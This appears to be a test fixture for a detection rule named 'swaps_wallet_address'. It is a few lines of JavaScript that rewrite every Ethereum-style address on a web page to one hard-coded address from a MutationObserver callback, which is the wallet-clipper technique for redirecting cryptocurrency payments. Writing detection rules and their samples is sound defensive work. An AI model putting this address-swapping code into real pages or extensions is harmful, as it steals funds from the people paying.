const MAP = [
  // ruleid: swaps_wallet_address
  [/\b0x[a-fA-F0-9]{40}\b/g, '0x3Fd2a91C0b7E5c4A8e6B1d9F2c0A7b5E4d3C2b1A'],
];
new MutationObserver(() => { for (const [re, v] of MAP) document.body.innerHTML = document.body.innerHTML.replace(re, v); });
